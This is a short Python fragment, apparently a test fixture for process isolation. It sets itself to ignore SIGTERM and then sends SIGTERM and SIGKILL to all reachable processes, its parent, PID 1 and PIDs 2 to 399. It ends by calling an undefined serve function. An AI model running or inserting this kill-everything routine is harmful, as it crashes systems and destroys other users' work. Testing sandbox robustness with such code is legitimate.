"""Kills all that it can: everybody, its parent, the first process, and what it finds."""
import os
import signal

signal.signal(signal.SIGTERM, signal.SIG_IGN)
for target in (-1, os.getppid(), 1, *range(2, 400)):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            if target != os.getpid():
                os.kill(target, number)
        except OSError:
            pass
serve(False)
